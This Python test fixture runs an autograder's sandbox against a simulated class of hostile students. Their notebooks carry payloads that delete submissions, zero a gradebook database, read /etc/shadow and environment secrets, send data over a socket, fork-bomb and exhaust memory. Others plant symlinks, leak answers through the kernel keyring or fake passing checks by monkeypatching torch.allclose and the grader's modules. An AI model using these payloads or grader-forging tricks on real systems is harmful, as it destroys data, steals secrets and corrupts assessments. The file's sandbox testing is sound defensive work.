"""The hostile class: 38 attackers, 4 hostile uploads to the intake and two honest students hand
in lesson 01, graded in one run with the sandbox on (tests/test_hostile*.py read the outcome;
tests/conftest.py grades it once).

Each attacker hands in lesson 01 with the right solution and, at the top of its solution
cell, one attack (what a student on deadline night might try). EARNED and REPORTED say what
each must get and what the instructor must be told.
"""

import hashlib
import os
import socket
import subprocess
import threading
import zipfile
from collections.abc import Callable
from pathlib import Path

import nbformat

from autograder import lessons
from autograder.authoring.samples import filled
from autograder.engine.kernels.limits import Limits
from autograder.engine.kernels.sandbox import cgroup_root
from autograder.engine.pipeline import Pipeline
from autograder.instructor import grades

LESSON = "01_embedding"
HONEST = ("abe", "zoe")  # graded first and last
MARKER = "4242.4242"  # in the command line of every process an attack leaves behind
CHECKS_FILE = lessons.ROOT / "autograder" / "checks" / "attention.py"
SECRET = Path.home() / f".course-hostile-secret-{os.getpid()}"  # a key in the instructor's home
# The grader's own secret in its environment (a PostgreSQL gradebook's password, say)
GRADER_PASSWORD = f"pg-password-{os.getpid()}"
# A smaller memory cap than the default's 4 GiB, so that shm_hog (a page at a time, about 0.8 s a
# GiB on a quiet 2-core machine) reaches it in seconds; 1.5 GiB still holds an honest kernel (it
# peaks near 0.5 GiB).
LIMITS = Limits(memory_gib=1.5)
# Every honest cell here takes under a second in a warm kernel; sigint_looper runs until this limit
# (then nbclient's four seconds for the kernel's last messages), so it is kept short.
CELL_LIMIT_S = 8
MEMORY_GROUPS = cgroup_root("memory") is not None  # where not, shared memory is not capped
KEY = f"course-hostile-key-{os.getpid()}"  # what one student leaves in the keyring for another
# system call numbers of add_key and keyctl, by machine
KEYRING_CALLS = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]

ATTACKS = {
    "deleter": """
import glob, os, shutil
for path in glob.glob("../../../submitted/*") + glob.glob("../../../autograded/*") + glob.glob("../../*"):
    if not path.endswith("deleter"):
        shutil.rmtree(path, ignore_errors=True)
""",
    "gradebook": """
import glob, sqlite3
for path in glob.glob("../../../*.db") + glob.glob("../../../../*.db"):
    db = sqlite3.connect(path)
    db.execute("UPDATE grade SET auto_score = 0")
    db.commit()
""",
    "patcher": f"""
with open({str(CHECKS_FILE)!r}, "a") as handle:
    handle.write("\\ndef check_attention_values(fn):\\n    pass\\n")
""",
    "spy": """
import glob, os
print("found:", sorted(glob.glob("../../*")), sorted(glob.glob("../../../*")))
print("home:", sorted(os.listdir(os.path.expanduser("~"))))
""",
    "hog": """
hoard = bytearray(6 * 2**30)
""",
    "lingerer": f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep({MARKER})"], start_new_session=True)
""",
    "caller": """
import socket
socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"stolen")
""",
    "forker": """
import subprocess
sleepers = []
try:
    while len(sleepers) < 1000:
        sleepers.append(subprocess.Popen(["sleep", "4242.4242"]))
except OSError as error:
    print("refused after", len(sleepers), type(error).__name__)
print("started", len(sleepers))
for sleeper in sleepers:
    sleeper.kill()
    sleeper.wait()
""",
    "quitter": """
import os
os._exit(3)
""",
    "exiter": """
exit()
""",
    "sigint_looper": """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""",
    "shouter": """
print("x" * 20_000_000)
""",
    "tmp_writer": """
with open("/tmp/course-hostile-tmp-writer", "w") as handle:
    handle.write("left behind")
""",
    "env_spy": """
import os
print("environment:", sorted(os.environ.items()))
""",
    "root_reader": """
import os
print("uid", os.getuid())
try:
    open("/etc/shadow").read()
    print("shadow read")
except OSError as error:
    print("shadow refused:", type(error).__name__)
""",
    "scripter": """
class Page:
    def _repr_html_(self):
        script = "<script>console.log('CANARY')</script>"
        return "<b>hi</b>" + script + "<img src=x onerror=\\"document.title='PWNED'\\">"

    def _repr_javascript_(self):
        return "console.log('CANARY')"


display(Page())
""",
    "shm_hog": """
import mmap
size = 5 * 2**30
shared = mmap.mmap(-1, size)
for offset in range(0, size, 4096):
    if offset % 2**30 == 0:
        print("GiB written:", offset // 2**30, flush=True)
    shared[offset] = 1
print("wrote", size)
""",
}

# What a kernel leaves in its own folder (the copy-back, nbgrader's permission and feedback
# steps read it with the instructor's permissions); each attack keeps the right solution.
VICTIM = Path.home() / f".course-hostile-victim-{os.getpid()}"  # a file of the instructor's, mode 0751
LEFT_BEHIND = {
    "linker": """
import os
os.remove("embedding.ipynb")
os.symlink("../../../gradebook.db", "embedding.ipynb")
""",
    "chmodder": f"""
import os
os.symlink({str(VICTIM)!r}, "notes.txt")
""",
    "thief": """
import os
os.symlink("../../../gradebook.db", "answers.txt")
""",
    "folder_linker": """
import os
os.symlink("../../..", "everything")
""",
    "zero_linker": """
import os
os.symlink("/dev/zero", "zeros.bin")
""",
    "hard_linker": """
import os
os.link("embedding.ipynb", "twin.ipynb")
try:
    os.link("/etc/passwd", "passwd")
except OSError as error:
    print("hard link refused:", type(error).__name__)
""",
    "fifo_maker": """
import os
os.mkfifo("pipe")
""",
    "flooder": """
import os
os.mkdir("many")
for index in range(3000):
    with open(f"many/{index:04d}.txt", "w") as handle:
        handle.write("x")
""",
    "sparse_writer": """
with open("big.bin", "wb") as handle:
    handle.truncate(2**30)
""",
}

# One student leaves the right solution in the user keyring; a later one (graded after it,
# by name) uses it if it finds it, and hands in a wrong answer otherwise.
KEYRING = {
    "keyring_a_writer": f"""
import ctypes
_answer = {{answer!r}}.encode()
_libc = ctypes.CDLL(None, use_errno=True)
print("add_key:", _libc.syscall({KEYRING_CALLS[0]}, b"user", {KEY!r}.encode(), _answer, len(_answer), -4))
""",
    "keyring_b_reader": f"""
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_key = _libc.syscall({KEYRING_CALLS[1]}, 10, -4, b"user", {KEY!r}.encode(), 0)  # KEYCTL_SEARCH
_found = ctypes.create_string_buffer(100_000)
_length = _libc.syscall({KEYRING_CALLS[1]}, 11, _key, _found, 100_000) if _key > 0 else -1  # KEYCTL_READ
print("keyctl:", _key, _length)
exec(_found.raw[:_length].decode() if _length > 0 else WRONG_SOLUTION)
""",
}


WRONG = """
import math

from torch import nn


class Embedding(nn.Module):
    def __init__(self, vocab_size, d_model):
        super().__init__()
        self.lut = nn.Embedding(vocab_size, d_model)

    def forward(self, tokens):
        return self.lut(tokens)  # no sqrt(d_model): a wrong answer
"""

# Whole solution cells that take a shortcut; the grader flags them (autograder/engine/flags.py), and
# where they fake a check, the judge fails them (autograder/engine/judge.py).
SHORTCUTS = {
    "copier": "from solutions.embedding import Embedding",
    "forger": """import math

from torch import nn

import autograder.checks.embedding
import autograder.hidden.embedding

autograder.checks.embedding.check_embedding_values = lambda cls: None
autograder.hidden.embedding.hidden_embedding = lambda cls: None
"""
    + WRONG,
    "lazy_copier": """
import importlib

Embedding = importlib.import_module("solu" + "tions.embedding").Embedding
""",
    "allclose_forger": """
import torch

torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
"""
    + WRONG,
    "module_swapper": """
import sys
import types

fake = types.ModuleType("fake")
fake.hidden_embedding = lambda cls: None
sys.modules["autograder.hidden.embedding"] = fake
checks = types.SimpleNamespace(check_embedding_shapes=print, check_embedding_values=print)
"""
    + WRONG,
    "silencer": """
get_ipython().showtraceback = lambda *args, **kwargs: None
"""
    + WRONG,
}


def _is_test(cell) -> bool:
    meta = cell.metadata.get("nbgrader", {})
    return bool(meta.get("grade")) and not meta.get("solution")


def _forged_points(nb):
    """Test cells worth 100 points that test nothing."""
    for cell in filter(_is_test, nb.cells):
        cell.metadata.nbgrader["points"] = 100
        cell.source = "pass"
    return nb


def _forged_outputs(nb):
    """The untouched stubs, with the outputs of passing checks pasted into the test cells."""
    for cell in filter(_is_test, nb.cells):
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="✓ Embedding passed\n")]
        cell.execution_count = 1
    return nb


def _deleted_tests(nb):
    nb.cells = [cell for cell in nb.cells if not _is_test(cell)]
    return nb


def _renamed_kernel(nb):
    nb.metadata["kernelspec"] = {"name": "no-such-kernel", "display_name": "Nope", "language": "python"}
    return nb


# Notebooks edited around the cells: metadata, outputs, deleted cells, the kernel's name.
EDITED = {
    "metadata_forger": lambda: _forged_points(_attacker(WRONG, replace=True)),
    "output_forger": lambda: _forged_outputs(nbformat.read(lessons.course_path(LESSON), as_version=4)),
    "test_deleter": lambda: _deleted_tests(filled(LESSON)),
    "kernel_renamer": lambda: _renamed_kernel(filled(LESSON)),
}


def digest(paths) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(paths) if p.is_file()}


def _attacker(attack: str, replace: bool = False) -> nbformat.NotebookNode:
    nb = filled(LESSON)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = attack.strip() if replace else attack.strip() + "\n\n\n" + cell.source
    return nb


def _leftovers() -> list[str]:
    ps = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True).stdout
    return [line for line in ps.splitlines() if MARKER in line and "ps -eo" not in line]


def _intake_zip(folder: Path) -> Path:
    """An LMS download with a path in a name, a student id '..', a double hand-in and 200 MiB."""
    notebook = nbformat.writes(filled(LESSON))
    archive = folder / "download.zip"
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr(f"{LESSON}_.._attempt_2026-11-20-10-00-00_embedding.ipynb", notebook)
        bundle.writestr("../../twin_embedding.ipynb", notebook)  # a path: refused, never followed
        bundle.writestr("twin_embedding.ipynb", notebook)
        bundle.writestr("whale_embedding.ipynb", " " * (200 * 2**20))  # stored compressed
    return archive


def grade(tmp: Path, finalize: Callable[[Callable[[], None]], object]) -> dict:
    """Grade the class in ``tmp``: what the tests read of it (the pipeline, digests taken before,
    the feedback pages, what the listener received, the processes left). ``finalize`` is given
    what removes the instructor's files planted for the attacks, once the tests are done."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.5)
    received: list[bytes] = []
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                connection, _ = listener.accept()
            except TimeoutError:
                continue
            received.append(connection.recv(100))

    threading.Thread(target=listen, daemon=True).start()
    port = listener.getsockname()[1]

    inbox = tmp / "inbox"
    notebooks = {student: filled(LESSON) for student in HONEST}
    notebooks |= {name: _attacker(code.replace("PORT", str(port))) for name, code in ATTACKS.items()}
    notebooks |= {name: _attacker(code) for name, code in LEFT_BEHIND.items()}
    right = next(c.source for c in filled(LESSON).cells if c.metadata.get("nbgrader", {}).get("solution"))
    notebooks["keyring_a_writer"] = _attacker(KEYRING["keyring_a_writer"].replace("{answer!r}", repr(right)))
    reader = KEYRING["keyring_b_reader"].replace("WRONG_SOLUTION", repr(WRONG))
    notebooks["keyring_b_reader"] = _attacker(reader, replace=True)
    notebooks |= {name: _attacker(code, replace=True) for name, code in SHORTCUTS.items()}
    notebooks |= {name: edit() for name, edit in EDITED.items()}
    for student, nb in notebooks.items():
        path = inbox / student / LESSON / lessons.notebook_name(LESSON)
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
    repository = digest(lessons.ROOT.glob("autograder/**/*.py"))
    SECRET.write_text("the instructor's token")
    finalize(lambda: SECRET.unlink(missing_ok=True))
    VICTIM.write_text("the instructor's script")
    VICTIM.chmod(0o751)
    finalize(lambda: VICTIM.unlink(missing_ok=True))
    os.environ["PGPASSWORD"] = GRADER_PASSWORD  # read when the grader starts its kernels
    try:
        pipeline = Pipeline(
            tmp / "workspace",
            release=tmp / "release",
            log=lambda *_: None,
            cell_timeout_s=CELL_LIMIT_S,
            sandbox=LIMITS,
        )
        pipeline.release([LESSON])
        pipeline.collect_folder(inbox)
        pipeline.collect_zip(_intake_zip(tmp), LESSON)
        submitted = digest(pipeline.submitted.rglob("*"))
        pipeline.autograde()
        feedback = pipeline.feedback()
    finally:  # the session goes on after the class: its other tests see no such password
        os.environ.pop("PGPASSWORD", None)
        stop.set()
    return {
        "pipeline": pipeline,
        "repository": repository,
        "submitted": submitted,
        "feedback": feedback,
        "grades": grades.export(pipeline, tmp / "workspace" / "grades.csv").read_text(),
        "received": received,
        "leftovers": _leftovers(),
        "keys": Path("/proc/keys").read_text(),
        "tmp": tmp,
    }


def outputs(pipeline: Pipeline, student: str) -> str:
    """What the student's graded notebook printed and raised (not the figures)."""
    path = pipeline.workspace / "autograded" / student / LESSON / lessons.notebook_name(LESSON)
    nb = nbformat.read(path, as_version=4)
    texts = [
        output.get("text", "") + output.get("ename", "") + output.get("evalue", "")
        for cell in nb.cells
        for output in cell.get("outputs", [])
    ]
    return "\n".join(texts)


def graded_folder(pipeline: Pipeline, student: str) -> Path:
    return pipeline.workspace / "autograded" / student / LESSON


# An attack that raised in its solution cell left the class undefined, so its tests fail: it
# scores 0. One that ran without an error (in its own folder, or on nothing it could reach)
# keeps the points of its correct solution, and no more. A wrong answer keeps the shapes
# point (its shapes are right) and no other, however it faked the values check.
EARNED = {
    "deleter": 3.0,
    "gradebook": 3.0,
    "patcher": 0.0,
    "spy": 3.0,
    "hog": 0.0,
    "lingerer": 3.0,
    "caller": 0.0,
    "tmp_writer": 3.0,
    "quitter": 0.0,
    "forker": 3.0,
    "exiter": 0.0,
    "sigint_looper": 0.0,
    "shouter": 3.0,
    "copier": 3.0,  # right, and flagged: the instructor decides
    "forger": 1.0,
    "lazy_copier": 3.0,  # right, and flagged
    "allclose_forger": 1.0,
    "module_swapper": 1.0,
    "silencer": 1.0,
    "metadata_forger": 1.0,
    "output_forger": 0.0,
    "test_deleter": 3.0,
    "kernel_renamer": 3.0,
    "twin": 3.0,
    "env_spy": 3.0,
    "root_reader": 3.0,
    "scripter": 3.0,  # its page shows, and runs nothing
    "shm_hog": 0.0 if MEMORY_GROUPS else 3.0,
    "linker": 3.0,  # whatever a kernel leaves in its folder costs it nothing, and gains it nothing
    "chmodder": 3.0,
    "thief": 3.0,
    "folder_linker": 3.0,
    "zero_linker": 3.0,
    "hard_linker": 3.0,
    "fifo_maker": 3.0,
    "flooder": 3.0,
    "sparse_writer": 3.0,
    "keyring_a_writer": 3.0,
    "keyring_b_reader": 1.0,  # found nothing in the keyring: its own wrong answer
}

# What the instructor's report says about each student (every line, in part); nobody else is named.
TAMPERING = "tampering suspected, cell test_Embedding_values: passed in the notebook, not before the judge"
REPORTED = {
    "patcher": ["flagged, cell Embedding: names the course's code in a string"],
    "quitter": ["autograding failed: the kernel exited while running the solution cell of Embedding"],
    "exiter": ["autograding failed: the kernel exited after exit() in the solution cell of Embedding"],
    "sigint_looper": [
        f"autograding failed: the solution cell of Embedding ran past the {CELL_LIMIT_S} s limit and did not "
        "stop when interrupted"
    ],
    "copier": [
        "flagged, cell Embedding: imports solutions.embedding (the course's reference or grading code)"
    ],
    "forger": [
        "flagged, cell Embedding: imports autograder.checks.embedding (the course's reference",
        "flagged, cell Embedding: imports autograder.hidden.embedding (the course's reference",
        "flagged, cell Embedding: changes autograder.checks.embedding.check_embedding_values, an attribute",
        "flagged, cell Embedding: changes autograder.hidden.embedding.hidden_embedding, an attribute",
        TAMPERING,
    ],
    "lazy_copier": ["flagged, cell Embedding: imports importlib (the kernel's machinery)"],
    "allclose_forger": [
        "flagged, cell Embedding: changes torch.allclose, an attribute of an imported module",
        "flagged, cell Embedding: changes torch.equal, an attribute of an imported module",
        TAMPERING,
    ],
    "module_swapper": [
        "flagged, cell Embedding: uses sys.modules (the kernel's machinery)",
        "flagged, cell Embedding: names the course's code in a string ('autograder.hidden.embedding')",
        TAMPERING,
    ],
    "silencer": ["flagged, cell Embedding: uses get_ipython (the kernel's machinery)"],
    "test_deleter": ["deleted test cells restored and graded: test_Embedding_shapes, test_Embedding_values"],
    "?": [
        "../../twin_embedding.ipynb: not named as Blackboard names a hand-in",
        f"{LESSON}_.._attempt_2026-11-20-10-00-00_embedding.ipynb: '..' is not a student id",
    ],
    "whale": ["whale_embedding.ipynb is 200 MiB, over the 50 MiB limit; not graded"],
    "linker": ["left a symbolic link `embedding.ipynb` -> `../../../gradebook.db`: not kept"],
    "chmodder": [f"left a symbolic link `notes.txt` -> `{VICTIM}`: not kept"],
    "thief": ["left a symbolic link `answers.txt` -> `../../../gradebook.db`: not kept"],
    "folder_linker": ["left a symbolic link `everything` -> `../../..`: not kept"],
    "zero_linker": ["left a symbolic link `zeros.bin` -> `/dev/zero`: not kept"],
    "fifo_maker": ["left a FIFO `pipe`: not kept"],
    # 3,000 files, their folder and the notebook
    # 3,000 files and their folder, beside the notebook and the intake's timestamp.txt and handed.json
    "flooder": ["left 3,004 files and folders, over the cap of 1,000: kept the first 1,000 by name"],
    "sparse_writer": ["left `big.bin` (1.0 GiB), over the cap of 256 MiB: not kept"],
    "hog": ["the solution cell of Embedding ran out of memory at the sandbox's cap of 1.5 GiB a process"],
    "keyring_a_writer": ["flagged, cell Embedding: imports ctypes (the kernel's machinery)"],
    "keyring_b_reader": ["flagged, cell Embedding: imports ctypes (the kernel's machinery)"],
} | (
    {
        # At the cap, the group first takes back the kernel's own file pages (torch's libraries),
        # which it reads again at once: on a busy machine that can outlast the cell limit
        # before the kernel is ended. Either way the cap held (test_hostile_kernel reads how much
        # it wrote).
        "shm_hog": [
            (
                "autograding failed: the kernel exited while running the solution cell of Embedding (it "
                "reached the sandbox's memory cap of 1.5 GiB)",
                f"cells stopped after {CELL_LIMIT_S} s (an endless loop?), scored 0: Embedding",
            )
        ]
    }
    if MEMORY_GROUPS
    else {}
)
